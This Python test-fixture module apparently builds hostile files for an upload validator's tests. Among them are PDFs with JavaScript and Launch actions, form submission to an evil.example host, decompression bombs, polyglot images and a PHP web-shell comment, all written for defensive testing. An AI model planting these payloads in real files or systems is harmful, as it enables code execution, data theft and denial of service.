"""Files that want more than to be looked at, written byte by byte."""

import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from io import BytesIO

from pypdf import PdfWriter

from tests.factories.evidence import a_pdf, a_picture, written

CATALOGUE = b"<< /Type /Catalog /Pages 2 0 R %s >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>"
MIB = 1024 * 1024


def raw_pdf(*more: bytes, root: bytes = b"", page: bytes = b"", trailer: bytes = b"") -> bytes:
    """A correct PDF of one page; `root`, `page` and `trailer` go into those dictionaries, `more`
    are the objects from 4 on."""
    objects = [CATALOGUE % root, PAGES, PAGE % page, *more]
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, each in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


def stream(content: bytes, about: bytes = b"") -> bytes:
    """An object with a stream."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), about, content)


def zeros(size: int) -> bytes:
    """`size` bytes, a multiple of a MiB, of nothing, deflated."""
    deflate = zlib.compressobj(9)
    parts = [deflate.compress(bytes(MIB)) for _ in range(size // MIB)]
    return b"".join((*parts, deflate.flush()))


def packed_pdf(*packed: bytes, root: bytes = b"") -> bytes:
    """The same with objects 4 on in an object stream, and the list of objects in a stream too."""
    offsets, body = [], b""
    for number, each in enumerate(packed, start=6):
        offsets.append(b"%d %d" % (number, len(body)))
        body += each + b" "
    head = b" ".join(offsets) + b" "
    about = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(packed), len(head))
    objects = [CATALOGUE % root, PAGES, PAGE % b"", stream(zlib.compress(head + body), about)]
    out = bytearray(b"%PDF-1.7\n")
    entries = [struct.pack(">BIH", 0, 0, 65535)]
    for number, each in enumerate(objects, start=1):
        entries.append(struct.pack(">BIH", 1, len(out), 0))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, each)
    start = len(out)
    entries.append(struct.pack(">BIH", 1, start, 0))
    entries += [struct.pack(">BIH", 2, 4, index) for index in range(len(packed))]
    about = b"/Type /XRef /W [1 4 2] /Root 1 0 R /Size %d" % len(entries)
    out += b"5 0 obj\n%s\nendobj\n" % stream(b"".join(entries), about)
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % start


def an_archive(name: str = "word/vbaProject.bin") -> bytes:
    """A ZIP; with this name in it, an office file with macros."""
    target = BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr(name, "Sub AutoOpen()")
    return target.getvalue()


def with_attachment() -> bytes:
    """A file inside."""
    writer = PdfWriter(BytesIO(a_pdf()))
    writer.add_attachment("invoice.exe", b"MZ")
    return written(writer)


def encrypted(password: str) -> bytes:
    """Locked; with an empty password everybody can open it."""
    writer = PdfWriter(BytesIO(a_pdf()))
    writer.encrypt(password, "owner", algorithm="AES-256")
    return written(writer)


def with_chunk(kind: bytes, content: bytes, *, before: bytes = b"IEND") -> bytes:
    """A PNG with one more chunk, by default before its end."""
    picture = a_picture()
    end = picture.index(before) - 4
    checksum = struct.pack(">I", zlib.crc32(kind + content))
    return (
        picture[:end] + struct.pack(">I", len(content)) + kind + content + checksum + picture[end:]
    )


def with_comment(content: bytes) -> bytes:
    """A JPEG with a comment."""
    picture = a_picture("JPEG")
    return picture[:2] + b"\xff\xfe" + struct.pack(">H", len(content) + 2) + content + picture[2:]


def with_second_picture() -> bytes:
    """A JPEG that announces another one after it, as telephones write them."""
    picture = a_picture("JPEG")
    return picture[:2] + b"\xff\xe2\x00\x06MPF\0"[:8] + picture[2:] + a_picture("JPEG")


def huge_picture(side: int) -> bytes:
    """A PNG of side × side black points that takes a few kilobytes."""
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((side // 8 + 1) * side), 9)
    chunks = [(b"IHDR", head), (b"IDAT", rows), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content))
        for kind, content in chunks
    )


def action(what: bytes) -> bytes:
    """A PDF with a link that does this."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << %s >> >>" % what
    return raw_pdf(link, page=b"/Annots [4 0 R]")


Maker = Callable[[], bytes]

# By the code of the refusal: what each is, and how it is made.
PDFS: Mapping[str, Mapping[str, Maker]] = {
    "document_locked": {
        "a password to open": lambda: encrypted("secret"),
        "a password to change": lambda: encrypted(""),
        "an unknown way to encrypt": lambda: raw_pdf(
            b"<< /Filter /Unheard /V 9 >>", trailer=b"/Encrypt 4 0 R"
        ),
    },
    "document_active": {
        "script at opening": lambda: raw_pdf(
            root=b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
        ),
        "script by name": lambda: raw_pdf(root=b"/Names << /JavaScript << /Names [] >> >>"),
        "attached file": with_attachment,
        "script in an action": lambda: action(b"/S /JavaScript /JS (app.alert\\(1\\))"),
        "script under an escaped name": lambda: action(b"/S /J#61vaScript /#4aS (x)"),
        "script in a packed object": lambda: packed_pdf(b"<< /S /JavaScript /JS (x) >>"),
        "script that no list names": lambda: raw_pdf().replace(
            b"xref", b"9 0 obj << /S /Java#53cript >> endobj\nxref", 1
        ),
        "launch a program": lambda: action(b"/S /Launch /F (calc.exe)"),
        "action whose kind is elsewhere": lambda: raw_pdf(
            b"<< /S 5 0 R >>", b"/GoToR", page=b"/Annots [4 0 R]"
        ),
        "another file": lambda: action(b"/S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit]"),
        "form sent away": lambda: action(b"/S /SubmitForm /F (http://evil.example)"),
        "link to the disk": lambda: action(b"/S /URI /URI (file:///c:/windows/system32/calc.exe)"),
        "link that is a script": lambda: action(b"/S /URI /URI (javascript:alert(1))"),
        "web page at opening": lambda: raw_pdf(
            root=b"/OpenAction << /S /URI /URI (http://evil.example) >>"
        ),
        "page with a trigger": lambda: raw_pdf(page=b"/AA << /O << /S /Named >> >>"),
        "XFA form": lambda: raw_pdf(stream(b"<xdp/>"), root=b"/AcroForm << /XFA 4 0 R >>"),
        "portfolio": lambda: raw_pdf(root=b"/Collection << /View /T >>"),
        "video": lambda: raw_pdf(
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>", page=b"/Annots [4 0 R]"
        ),
        "content of another file": lambda: raw_pdf(
            stream(b"", b"/F (secret.txt)"), page=b"/Contents 4 0 R"
        ),
    },
    "document_hides_more": {
        "something before": lambda: b"GIF89a" + a_pdf(),
        "a web page before": lambda: b"<html><!--" + a_pdf(),
        "something after": lambda: a_pdf() + b"#!/bin/sh",
        "an archive after": lambda: a_pdf() + an_archive(),
        "an archive inside": lambda: raw_pdf(stream(an_archive()), page=b"/Contents 4 0 R"),
        "an archive before": lambda: raw_pdf(stream(b"Rar!\x1a\x07\x00"), page=b"/Contents 4 0 R"),
        "a web page inside": lambda: raw_pdf(stream(b"<ScRiPt>alert(1)</script>")),
    },
    "document_unreadable": {
        "nothing after the beginning": lambda: b"%PDF-1.7\n",
        "beginning and end": lambda: b"%PDF-1.7\n%%EOF",
        "cut off": lambda: a_pdf()[:-60] + b"%%EOF",
        "no version": lambda: b"%PDF-x" + a_pdf()[8:],
        "no page": lambda: a_pdf(pages=0),
        "pages that contain themselves": lambda: raw_pdf().replace(b"[3 0 R]", b"[2 0 R]"),
        "nested a million times": lambda: raw_pdf(b"[" * MIB),
        "dictionaries nested": lambda: raw_pdf(b"<< /A " * 200_000),
        "a list of a billion objects": lambda: raw_pdf().replace(
            b"xref\n0 4", b"xref\n0 1000000000"
        ),
        "an object that is itself": lambda: raw_pdf(b"4 0 R", page=b"/Contents 4 0 R"),
        "a stream of packed objects in itself": lambda: (
            packed_pdf(b"<< >>").replace(struct.pack(">BIH", 1, 0, 0), b"")[:-40] + b"%%EOF"
        ),
        "words": lambda: b"%PDF-1.7\n" + b"lorem ipsum " * 1000 + b"%%EOF",
    },
    "document_too_complex": {
        "a bomb": lambda: raw_pdf(stream(zeros(300 * MIB), b"/Filter /FlateDecode")),
        "a bomb in a bomb": lambda: raw_pdf(
            stream(zlib.compress(zeros(300 * MIB)), b"/Filter [/FlateDecode /FlateDecode]")
        ),
        "many small bombs": lambda: raw_pdf(
            *[stream(zeros(200 * MIB), b"/Filter /FlateDecode")] * 6
        ),
        "too many objects": lambda: raw_pdf(*[b"null"] * 50_001),
        "too many pages": lambda: a_pdf(pages=301),
    },
}
PICTURES: Mapping[str, Mapping[str, tuple[str, Maker]]] = {
    "document_hides_more": {
        "JPEG with text after it": ("a.jpg", lambda: a_picture("JPEG") + b"x"),
        "JPEG and archive": (
            "a.jpg",
            lambda: a_picture("JPEG") + an_archive("META-INF/MANIFEST.MF"),
        ),
        "JPEG and unannounced JPEG": ("a.jpg", lambda: a_picture("JPEG") * 2),
        "JPEG, announced JPEG and text": ("a.jpg", lambda: with_second_picture() + b"x"),
        "JPEG with a script": ("a.jpg", lambda: with_comment(b"<script>alert(1)</script>")),
        "JPEG with a PDF": ("a.jpg", lambda: with_comment(a_pdf())),
        "JPEG with PHP": ("a.jpg", lambda: with_comment(b"<?php system($_GET['c']); ?>")),
        "PNG with text after it": ("a.png", lambda: a_picture() + b"\0"),
        "PNG and archive": ("a.png", lambda: a_picture() + an_archive()),
        "PNG with an archive": ("a.png", lambda: with_chunk(b"zIPs", an_archive())),
        "PNG with a web page": ("a.png", lambda: with_chunk(b"tEXt", b"Title\0<!DOCTYPE HTML>")),
    },
    "document_unreadable": {
        "JPEG cut off": ("a.jpg", lambda: a_picture("JPEG")[:-50]),
        "JPEG of one byte again and again": ("a.jpg", lambda: b"\xff\xd8" + b"\xff" * 9 * MIB),
        "three bytes": ("a.jpg", lambda: b"\xff\xd8\xff"),
        "PNG cut off": ("a.png", lambda: a_picture()[:-20]),
        "PNG with a wrong checksum": (
            "a.png",
            lambda: with_chunk(b"tEXt", b"a\0b").replace(b"tEXta", b"tEXtb"),
        ),
        "PNG of wrong content": ("a.png", lambda: a_picture().replace(b"IDAT", b"IDAT"[::-1])),
        "PNG without points": ("a.png", lambda: huge_picture(0)),
        "text that inflates": (
            "a.png",
            lambda: with_chunk(b"zTXt", b"Comment\0\0" + zeros(200 * MIB), before=b"IDAT"),
        ),
        "eight bytes": ("a.png", lambda: b"\x89PNG\r\n\x1a\n"),
    },
    "document_too_complex": {"10,000 × 10,000": ("a.png", lambda: huge_picture(10_000))},
}
OTHERS: Mapping[str, tuple[str, Maker]] = {
    "a text": ("a.pdf", lambda: b"Dear utility,"),
    "a program": ("a.pdf", lambda: b"MZ\x90\0" + bytes(100)),
    "a program of Linux": ("a.png", lambda: b"\x7fELF" + bytes(100)),
    "an office file with macros": ("a.docm", an_archive),
    "the same, called PDF": ("a.pdf", an_archive),
    "an old office file": ("a.pdf", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
    "a GIF": ("a.gif", lambda: a_picture("GIF")),
    "a GIF called PNG": ("a.png", lambda: a_picture("GIF")),
    "a TIFF": ("a.jpg", lambda: a_picture("TIFF")),
    "an SVG": ("a.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
    "a web page": ("a.pdf", lambda: b"<html><body>%PDF</body></html>"),
    "PostScript": ("a.pdf", lambda: b"%!PS-Adobe-3.0"),
    "white space": ("a.pdf", lambda: b" " * 2000),
}
